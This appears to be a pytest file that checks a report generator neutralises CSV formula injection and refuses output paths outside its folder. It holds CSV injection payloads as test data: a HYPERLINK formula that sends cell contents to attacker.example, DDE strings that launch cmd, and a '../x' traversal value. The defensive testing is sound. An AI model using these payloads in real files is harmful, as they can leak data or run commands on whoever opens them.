"""Report CSVs (opened in Excel by auditors) never carry a live formula; report files never leave --out."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json

import pytest

from cutover.evidence.collect import Sources, collect_site, load_dir, write
from cutover.evidence.model import Action
from cutover.report import build
from cutover.report import write as report_write

SITE = "pref-18-fukui"
# OWASP's list (https://owasp.org/www-community/attacks/CSV_Injection), kept here as the test's own oracle.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_formula(cell: str) -> bool:
    plain_number = cell.lstrip("+-").replace(".", "", 1).isdigit()
    return cell.startswith(OWASP_TRIGGERS) and not plain_number
PAYLOAD = {  # where hostile text reaches each report CSV: evidence fields people or tools can influence
    "sites.csv": "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
    "checks.csv": "=cmd|' /C calc'!A0",
    "actions.csv": "@SUM(1+1)*cmd|' /C calc'!A0",
    "drift.csv": "+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_reports(sample_inventory, tmp_path):
    site = sample_inventory.sites[SITE]
    current = tmp_path / "evidence"
    previous = tmp_path / "previous"
    evidence = collect_site(sample_inventory, site, Sources(), dt.date(2026, 11, 24))
    doc = json.loads(evidence.model_dump_json())
    doc["site"]["name_ja"] = PAYLOAD["sites.csv"]
    doc["checks"][0]["message"] = PAYLOAD["checks.csv"]
    doc["checks"][0]["title_ja"] = "\t=1+1"
    doc["checks"][0]["host"] = "-2+3"
    doc["actions"].append(Action(id="mail.survey", host=None, message_ja=PAYLOAD["actions.csv"],
                                 message_en=PAYLOAD["actions.csv"], source="survey").model_dump(mode="json"))
    current.mkdir()
    (current / f"{SITE}.json").write_text(json.dumps(doc), encoding="utf-8")
    earlier = json.loads(json.dumps(doc))
    # a check gone since the last run: its title reaches drift.csv (its id cannot: `cutover report` refuses
    # a check id it does not know)
    earlier["checks"].append({**doc["checks"][0], "item": "hostile", "title_ja": PAYLOAD["drift.csv"]})
    previous.mkdir()
    (previous / f"{SITE}.json").write_text(json.dumps(earlier), encoding="utf-8")
    reports = build.build(load_dir(current), sample_inventory, load_dir(previous))
    out = tmp_path / "report"
    report_write.write_all(reports, out, "ja")
    return out


def cells_of(path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")) for cell in row]


@pytest.mark.parametrize("name", ["sites.csv", "checks.csv", "actions.csv", "costs.csv", "drift.csv"])
def test_no_report_csv_cell_starts_a_formula(hostile_reports, name):
    cells = cells_of(hostile_reports / "csv" / name)
    assert [c for c in cells if live_formula(c)] == []
    if name in PAYLOAD:  # the payload did reach this file, as text
        assert any(c.startswith("'" + PAYLOAD[name]) for c in cells)


def test_every_trigger_character_is_neutralised(hostile_reports):
    cells = cells_of(hostile_reports / "csv" / "checks.csv")
    assert "'\t=1+1" in cells and "'-2+3" in cells
    assert not any(live_formula(c) for c in cells)


def test_an_output_name_outside_the_folder_is_refused_before_anything_is_written(sample_inventory, tmp_path):
    evidence = collect_site(sample_inventory, sample_inventory.sites[SITE], Sources(), dt.date(2026, 11, 24))
    write(evidence, tmp_path / "evidence")
    reports = build.build(load_dir(tmp_path / "evidence"), sample_inventory)
    # model_copy skips validation: as if a report were built from an evidence file the schema did not check
    bad = reports[0].evidence.model_copy(update={"site": reports[0].evidence.site.model_copy(update={"id": "../x"})})
    reports = [dataclasses.replace(reports[0], evidence=bad,  # the report names a site as the gate judges it
                                   assessment=dataclasses.replace(reports[0].assessment, site_id="../x"))]
    assert reports[0].id == "../x"
    out = tmp_path / "deep" / "report"
    with pytest.raises(report_write.UnsafeOutputPath, match="outside"):
        report_write.write_all(reports, out, "ja")
    assert not (tmp_path / "deep").exists() or list((tmp_path / "deep").rglob("*")) == []
